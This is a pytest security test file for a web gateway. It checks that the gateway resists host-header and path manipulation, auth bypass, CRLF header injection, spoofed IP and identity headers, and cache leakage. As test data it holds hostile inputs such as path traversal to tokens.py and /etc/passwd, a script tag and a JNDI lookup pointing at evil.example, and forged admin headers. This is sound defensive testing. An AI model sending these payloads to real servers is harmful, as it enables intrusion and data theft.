"""What a client says of itself, its address, its way and its method is not believed; and no answer that is private stays in a cache."""

import socket
from collections.abc import Iterator

import pytest

from services.common.ids import new_id
from tests.support.product import Agent, Gateway, Product, Visitor
from tests.support.waiting import wait_until

EVIL = "evil.example"


def raw(gateway: Gateway, *lines: bytes) -> tuple[int, dict[str, str], bytes]:
    """Status, headers and body of the answer to a request that no client's library would send; the connection is to be closed."""
    host, _, port = gateway.url.removeprefix("http://").partition(":")
    answer = b""
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.sendall(b"\r\n".join([*lines, b"Connection: close", b"", b""]))
        while chunk := sock.recv(65_536):
            answer += chunk
    head, _, body = answer.partition(b"\r\n\r\n")
    first, *rest = head.decode("latin-1").split("\r\n")
    return (
        int(first.split()[1]),
        {name.casefold(): value.strip() for name, _, value in (line.partition(":") for line in rest)},
        body,
    )


@pytest.fixture(scope="module")
def agent(gateway: Gateway, admin: str) -> Agent:
    return Agent(gateway, admin, "Ann")


@pytest.fixture(scope="module")
def visitor(gateway: Gateway, channel_id: str) -> Visitor:
    return Visitor(gateway, channel_id)


@pytest.mark.parametrize(
    "headers",
    [
        (f"Host: {EVIL}",),
        ("Host: ours", f"X-Forwarded-Host: {EVIL}"),
        ("Host: ours", f"X-Host: {EVIL}", f"X-Forwarded-Server: {EVIL}", f"X-Original-Host: {EVIL}"),
        ("Host: ours", f"Forwarded: host={EVIL};proto=https"),
        ("Host: ours", f"X-Forwarded-Prefix: //{EVIL}", f"X-Original-URL: //{EVIL}/", "X-Rewrite-URL: /metrics"),
        ("Host: ours", f"X-Forwarded-Proto: https://{EVIL}"),
        (f'Host: "><script src=//{EVIL}>',),
        (f"Host: ours@{EVIL}",),
        ("Host: ",),
    ],
    ids=lambda headers: headers[-1],
)
def test_no_header_leads_anywhere_else(gateway: Gateway, admin: str, headers: tuple[str, ...]) -> None:
    sent = [header.encode() for header in headers]
    status, told, body = raw(gateway, b"GET /console HTTP/1.1", *sent)
    assert (status, told["location"]) == (308, "/console/")
    assert EVIL.encode() not in body
    for path in ("/console/", "/docs", "/v1/openapi.json", "/v1/nothing", "/widget.js"):
        _, told, body = raw(gateway, f"GET {path} HTTP/1.1".encode(), *sent)
        assert EVIL not in str(told), path
        assert EVIL.encode() not in body, path
    token = f"Authorization: Bearer {admin}".encode()
    body = b'{"kind": "web", "name": "Shop"}'
    head = [
        b"POST /v1/channels HTTP/1.1",
        *sent,
        token,
        b"Content-Type: application/json",
        f"Content-Length: {len(body)}".encode(),
    ]
    assert EVIL not in str(_post(gateway, head, body))


def _post(gateway: Gateway, head: list[bytes], body: bytes) -> dict[str, str]:
    """The headers of the answer, `Location` among them."""
    host, _, port = gateway.url.removeprefix("http://").partition(":")
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.sendall(b"\r\n".join([*head, b"Connection: close", b"", body]))
        answer = b""
        while chunk := sock.recv(65_536):
            answer += chunk
    first, *rest = answer.partition(b"\r\n\r\n")[0].decode("latin-1").split("\r\n")
    assert first.startswith("HTTP/1.1 201"), answer
    return {name.casefold(): value.strip() for name, _, value in (line.partition(":") for line in rest)}


@pytest.mark.parametrize(
    "path",
    [
        "//evil.example/console",
        "/\\evil.example/console",
        "/console//evil.example",
        "/console/..//evil.example",
        "/%2f%2fevil.example",
        "/demo/%2e%2e/console",
        "/console/%2e%2e%2f%2e%2e%2fgateway/tokens.py",
        "/console/../../tokens.py",
        "/docs/..%5c..%5ctokens.py",
        "/console/vendor/../../../tokens.py",
        "/console/%00icon.svg",
        "http://evil.example/console/..",
    ],
)
def test_no_path_leads_elsewhere_or_out_of_its_folder(gateway: Gateway, path: str) -> None:
    status, told, body = raw(gateway, f"GET {path} HTTP/1.1".encode(), b"Host: ours")
    assert status in {400, 404}
    assert "location" not in told
    assert b"Signer" not in body


@pytest.mark.parametrize(
    "path",
    [
        "/v1/agents/",
        "//v1/agents",
        "/v1//agents",
        "/v1/./agents",
        "/v1/agents/.",
        "/v1/agents/%2e",
        "/v1/agents;admin",
        "/v1/agents%3fadmin",
        "/v1/agents%00",
        "/v1/agents/me/../",
        "/V1/AGENTS",
        "/v1/%61gents",
        "/widget.js/../v1/agents",
        "/v1/widget/x/../../agents",
        "/v1/openapi.json/../agents",
        "http://ours/v1/agents",
    ],
)
def test_no_spelling_of_a_path_goes_around_the_token(gateway: Gateway, agent: Agent, path: str) -> None:
    status, _, body = raw(gateway, f"GET {path} HTTP/1.1".encode(), b"Host: ours")
    assert status in {400, 401, 404}
    assert agent.id.encode() not in body


@pytest.mark.parametrize("name", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
def test_method_is_the_requests_own(gateway: Gateway, admin: str, name: str) -> None:
    channel_id = gateway.ask("POST", "/v1/channels", {"kind": "web", "name": "Stays"}, token=admin)["id"]
    path = f"/v1/channels/{channel_id}"
    for method in ("GET", "POST"):
        gateway.send(method, path, token=admin, headers={name: "DELETE"})
    gateway.send("POST", f"{path}?_method=DELETE", token=admin)
    assert gateway.ask("GET", path, token=admin)["name"] == "Stays"


@pytest.mark.parametrize(
    "given",
    [
        "x\tSet-Cookie: a=b",
        "x y",
        "<script>",
        "x" * 65,
        '{"$ne": 1}',
        "x\u0085y",
        "../../etc/passwd",
        "${jndi:ldap://evil.example/}",
        "x\x1b[31m",
    ],
)
def test_request_id_that_is_no_id_is_replaced_in_answer_and_log(product: Product, gateway: Gateway, given: str) -> None:
    mark = f"/v1/nothing/{new_id()}"
    status, told, body = raw(gateway, f"GET {mark} HTTP/1.1".encode(), b"Host: ours", f"X-Request-ID: {given}".encode("latin-1"))
    assert status in {400, 404}  # 400: not a header at all
    assert given not in str(told) + body.decode()
    assert "set-cookie" not in told
    assert given.encode() not in gateway.process.log_path.read_bytes()


@pytest.mark.parametrize("end", [b"\r\n", b"\n", b"\r", b"\r\n "])
def test_line_breaks_in_a_header_make_no_header_of_the_answer(gateway: Gateway, end: bytes) -> None:
    status, told, body = raw(
        gateway,
        b"GET /v1/nothing HTTP/1.1",
        b"Host: ours",
        b"X-Request-ID: x" + end + b"X-Injected: yes",
        b"Origin: https://a" + end + b"b",
    )
    assert status in {400, 404}
    assert "x-injected" not in told
    assert b"X-Injected" not in body.partition(b"Invalid")[0]


def test_line_breaks_in_addresses_make_no_header_of_the_answer(gateway: Gateway) -> None:
    for path in ("/console%0d%0aX-Injected:%20yes", "/v1/%0d%0aX-Injected:yes/agents", "/v1/agents?cursor=%0d%0aX-Injected:yes"):
        answer = gateway.send("GET", path, headers={"Origin": "https://shop.example"})
        assert answer.status_code in {401, 404, 422}
        assert "X-Injected" not in answer.headers


@pytest.mark.parametrize("name", ["X_Forwarded_For", "X-Forwarded_For", "REMOTE_ADDR", "X-Real-IP", "Forwarded", "Client-IP"])
def test_address_is_told_by_no_header_but_the_proxies(gateway: Gateway, admin: str, channel_id: str, name: str) -> None:
    lines = [f"POST /v1/widget/{channel_id}/session HTTP/1.1".encode(), b"Host: ours", b"Content-Length: 0"]
    value = "for=198.51.100.7" if name == "Forwarded" else "198.51.100.7"
    status, _, body = raw(gateway, *lines, f"{name}: {value}".encode(), b"X-Forwarded-For: 203.0.113.9")
    assert status == 201, body
    visitors = gateway.send("GET", f"/v1/contacts?channel_id={channel_id}&limit=1", token=admin).text
    assert "203.0.113.9" in visitors
    assert "198.51.100.7" not in visitors


def test_address_is_the_peers_when_no_proxy_is_trusted(alone: Gateway, admin: str, channel_id: str) -> None:
    visitor = Visitor(alone, channel_id, address="198.51.100.7")
    assert alone.ask("GET", f"/v1/contacts/{visitor.contact_id}", token=admin)["ip"] == "127.0.0.1"


def test_several_forwarded_headers_are_read_as_one_line_from_its_end(gateway: Gateway, admin: str, channel_id: str) -> None:
    status, _, body = raw(
        gateway,
        f"POST /v1/widget/{channel_id}/session HTTP/1.1".encode(),
        b"Host: ours",
        b"Content-Length: 0",
        b"X-Forwarded-For: 198.51.100.7",
        b"X-Forwarded-For: 203.0.113.77",
    )
    assert status == 201, body
    newest = gateway.ask("GET", f"/v1/contacts?channel_id={channel_id}&limit=1", token=admin)["items"][0]
    assert newest["ip"] == "203.0.113.77"


def test_two_tokens_in_one_request_are_none(gateway: Gateway, agent: Agent, admin: str) -> None:
    lines = [f"Authorization: Bearer {token}".encode() for token in (agent.token, admin)]
    status, _, body = raw(gateway, b"GET /v1/tokens HTTP/1.1", b"Host: ours", *lines)
    assert status == 401, body


@pytest.mark.parametrize(("header", "status"), [("SCRIPT_NAME: /v1/elsewhere", 404), ("SCRIPT_NAME: /nowhere", 404)])
def test_no_header_says_where_a_path_begins(gateway: Gateway, header: str, status: int) -> None:
    """Or whoever comes through a proxy on the same machine reads /metrics under a path that the proxy lets through."""
    answered, _, body = raw(gateway, b"GET /v1/elsewhere/metrics HTTP/1.1", b"Host: ours", header.encode())
    assert answered == status, body[:300]
    assert b"foyer_http" not in body


def private_answers(gateway: Gateway, admin: str, agent: Agent, visitor: Visitor) -> Iterator[tuple[str, str | None]]:
    contact, conversation = f"/v1/contacts/{visitor.contact_id}", f"/v1/conversations/{visitor.conversation_id}"
    for path in (
        "/v1/agents",
        "/v1/agents/me",
        "/v1/contacts",
        contact,
        f"{contact}/history",
        f"{contact}/export",
        f"{contact}/notes",
        conversation,
        f"{conversation}/messages",
        "/v1/conversations",
        "/v1/tokens",
        "/v1/webhooks",
        "/v1/queue",
    ):
        yield path, admin
    yield "/v1/widget/messages", visitor.token
    yield "/v1/widget/conversation", visitor.token
    yield "/v1/agents", None  # refusals neither: the next answer may be another
    yield f"{contact}/nothing", admin
    yield "/metrics", None


def test_no_private_answer_stays_in_a_cache(gateway: Gateway, admin: str, agent: Agent, visitor: Visitor) -> None:
    for path, token in private_answers(gateway, admin, agent, visitor):
        answer = gateway.send("GET", path, token=token)
        assert answer.headers["Cache-Control"] == "no-store", path
        assert not {"ETag", "Last-Modified", "Expires", "Content-Encoding"} & set(answer.headers), path
    with gateway.send("GET", "/v1/events", token=agent.token, stream=True) as stream:
        assert "no-cache" in stream.headers["Cache-Control"]


def test_private_answer_is_whole_whatever_a_client_says_to_have_of_it(gateway: Gateway, agent: Agent) -> None:
    for headers in ({"Range": "bytes=0-1"}, {"If-None-Match": "*"}, {"If-Modified-Since": "Mon, 30 Nov 2099 00:00:00 GMT"}):
        answer = gateway.send("GET", "/v1/agents/me", token=agent.token, headers=headers)
        assert (answer.status_code, answer.json()["id"]) == (200, agent.id)


def test_clients_own_trace_and_debug_headers_change_nothing(gateway: Gateway, agent: Agent) -> None:
    headers = {
        "traceparent": "00-" + "a" * 32 + "-" + "b" * 16 + "-01",
        "X-Debug": "1",
        "X-User-Id": "root",
        "X-Agent-Role": "admin",
        "X-Forwarded-User": "root",
        "Remote-User": "root",
    }
    assert gateway.send("GET", "/v1/tokens", token=agent.token, headers=headers).status_code == 403
    assert gateway.send("GET", "/v1/tokens", headers=headers).status_code == 401


def test_failure_inside_tells_a_stranger_nothing_of_how_it_is_made(gateway: Gateway) -> None:
    told = ""
    for path, headers in (
        ("/v1/agents", {"Authorization": "Bearer " + "x" * 5000}),
        ("/v1/nothing", {"Accept": "text/html"}),
        ("/v1/channels/" + "x" * 65, {}),
        ("/v1/widget/nobody/session", {"Content-Type": "application/json"}),
    ):
        told += gateway.send("GET", path, headers=headers).text
    for word in ("Traceback", "werkzeug", "Flask", "nameko", "mongo", "rabbit", "/services/", "python", "gunicorn"):
        assert word.casefold() not in told.casefold(), word


def test_log_names_no_address_token_or_query(gateway: Gateway, agent: Agent) -> None:
    query = new_id()
    gateway.send("GET", f"/v1/contacts?q={query}", token=agent.token, headers={"X-Forwarded-For": "198.51.100.99"})
    mark = new_id()
    gateway.send("GET", "/v1/agents/me", token=agent.token, headers={"X-Request-ID": mark})

    def log() -> str:
        return gateway.process.log_path.read_text()

    wait_until(lambda: mark in log(), what="the request's line")
    for secret in (query, agent.token, "198.51.100.99"):
        assert secret not in log()
